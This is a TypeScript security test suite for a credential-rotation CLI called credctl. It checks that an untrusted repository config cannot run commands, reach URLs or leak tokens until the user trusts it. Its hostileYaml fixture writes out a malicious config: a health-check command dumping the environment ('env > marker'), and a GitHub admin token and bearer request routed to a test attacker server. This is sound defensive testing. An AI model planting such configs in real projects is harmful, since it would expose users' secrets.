import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openProject } from '../../src/project/context.js';
import { grantTrust } from '../../src/trust/gate.js';
import { childEnvironment, runHealthCheck } from '../../src/apply/health.js';
import { makeRotationProject, startTestIssuer, type Issuer, type RotationProject } from '../helpers/rotation-project.js';
import { cli, oneClearLine, startAttacker, type Attacker } from './helpers.js';

// Promise 8: a repository's credctl.yaml makes credctl run nothing, contact nothing and hand over
// nothing until the user trusted that exact content for that exact path.

let issuer: Issuer;
let attacker: Attacker;
beforeAll(async () => {
  issuer = await startTestIssuer();
  attacker = await startAttacker();
});
afterAll(async () => {
  await issuer.close();
  await attacker.close();
});

const FAKE_GITHUB_TOKEN = 'ghp_FAKEsecurityTestToken0123456789abcdef';

function hostileYaml(marker: string): string {
  return [
    'providers:',
    `  example: { issuer: "${attacker.url}", admin: "store:github/token" }`,
    'credentials:',
    '  EVENTS_API_KEY:',
    '    health:',
    `      - command: "env > ${marker}"`,
    `      - http: { url: "${attacker.url}/health", bearer: true }`,
    '',
  ].join('\n');
}

async function hostileProject(): Promise<{ p: RotationProject; marker: string; envBefore: string }> {
  const p = await makeRotationProject(issuer, { names: ['EVENTS_API_KEY'] });
  await p.store.put('github/token', FAKE_GITHUB_TOKEN, ['current']);
  const marker = join(p.root, 'pwned.txt');
  writeFileSync(join(p.root, 'credctl.yaml'), hostileYaml(marker));
  return { p, marker, envBefore: p.read('.env') };
}

describe('a hostile credctl.yaml, untrusted', () => {
  it('rotate --yes --no-input refuses with exit 6: no request to its URLs, no command run, no file changed', async () => {
    const { p, marker, envBefore } = await hostileProject();
    const before = attacker.requests.length;
    const r = await cli(['rotate', 'EVENTS_API_KEY', '--yes', '--no-input'], { cwd: p.root, env: { ...p.env, CREDCTL_PASSPHRASE: 'FAKE-passphrase' } });
    expect(r.status).toBe(6);
    oneClearLine(r);
    expect(r.stderr).toMatch(/needs credctl\.yaml to be trusted/);
    expect(r.stderr).toMatch(/credctl trust/);
    expect(attacker.requests.length).toBe(before);
    expect(existsSync(marker)).toBe(false);
    expect(p.read('.env')).toBe(envBefore);
    expect(r.stdout + r.stderr).not.toContain(FAKE_GITHUB_TOKEN);
  });

  it('status and inventory check liveness only at built-in providers, and say why', async () => {
    const { p } = await hostileProject();
    const before = attacker.requests.length;
    for (const cmd of [['status'], ['inventory', '--json']]) {
      const r = await cli(cmd, { cwd: p.root, env: p.env });
      expect(r.stderr).toMatch(/not trusted here/);
      expect(attacker.requests.length).toBe(before);
    }
  });

  it('credctl trust --show lists the commands, URLs and secrets, and exits 6 until trusted', async () => {
    const { p, marker } = await hostileProject();
    const r = await cli(['trust', '--show'], { cwd: p.root, env: p.env });
    expect(r.status).toBe(6);
    expect(r.stdout).toContain(`env > ${marker}`);
    expect(r.stdout).toContain(attacker.url);
    expect(r.stdout).toContain('store:github/token → example');
  });

  it('a change after trusting asks again; CREDCTL_TRUST with the exact digest trusts it in CI, another digest does not', async () => {
    const { p } = await hostileProject();
    const digest = (await cli(['trust', '--print-digest'], { cwd: p.root, env: p.env })).stdout.trim();
    expect(digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect((await cli(['trust', '--show'], { cwd: p.root, env: { ...p.env, CREDCTL_TRUST: digest } })).status).toBe(0);
    expect((await cli(['trust', '--show'], { cwd: p.root, env: { ...p.env, CREDCTL_TRUST: `sha256:${'0'.repeat(64)}` } })).status).toBe(6);
    expect((await cli(['trust', '--yes'], { cwd: p.root, env: p.env })).status).toBe(0);
    expect((await cli(['trust', '--show'], { cwd: p.root, env: p.env })).status).toBe(0);
    writeFileSync(join(p.root, 'credctl.yaml'), readFileSync(join(p.root, 'credctl.yaml'), 'utf8').replace('env >', 'id >'));
    const changed = await cli(['trust', '--show'], { cwd: p.root, env: p.env });
    expect(changed.status).toBe(6);
    expect(changed.stdout).toMatch(/changed since you trusted it/);
  });
});

describe('admin credentials are bound to where they were first trusted to go', () => {
  it('trusting a config that sends a bound store entry to another provider or issuer is refused without --rebind', async () => {
    const p = await makeRotationProject(issuer, { names: ['EVENTS_API_KEY'] }); // trusted: example/admin → example at the issuer
    writeFileSync(join(p.root, 'credctl.yaml'), `providers:\n  example: { issuer: "${attacker.url}", admin: "store:example/admin" }\n`);
    const project = openProject(p.root);
    expect(project.trust.trusted).toBe(false);
    expect(() => grantTrust(project.root, project.trust)).toThrow(/pinned to example at http:\/\/127\.0\.0\.1/);
    const r = await cli(['trust', '--yes'], { cwd: p.root, env: p.env });
    expect(r.status).toBe(6);
    expect(r.stderr).toMatch(/--rebind example\/admin/);
    expect((await cli(['trust', '--yes', '--rebind', 'example/admin'], { cwd: p.root, env: p.env })).status).toBe(0);
  });
});

describe('health checks get a minimal environment', () => {
  it('a command sees the new value, PATH and what it names, never CREDCTL_* or other secrets', async () => {
    const parent = { PATH: process.env.PATH, HOME: '/home/x', CREDCTL_PASSPHRASE: 'FAKE-pass', STRIPE_SECRET_KEY: 'sk_live_FAKEother', NODE_ENV: 'production' };
    const env = childEnvironment({ command: 'true', env: ['NODE_ENV'] }, { EVENTS_API_KEY: 'ccx_live_FAKEnew' }, parent);
    expect(env).toEqual({ PATH: process.env.PATH, HOME: '/home/x', NODE_ENV: 'production', EVENTS_API_KEY: 'ccx_live_FAKEnew' });
    const r = await runHealthCheck({ command: 'env' }, { EVENTS_API_KEY: 'ccx_live_FAKEnew0123456789' }, [], { parentEnv: parent, policy: { retries: 0 } });
    expect(r.passed).toBe(true);
    expect(r.output).toContain('EVENTS_API_KEY=');
    expect(r.output).not.toMatch(/CREDCTL_|STRIPE_SECRET_KEY|NODE_ENV/);
  });
});
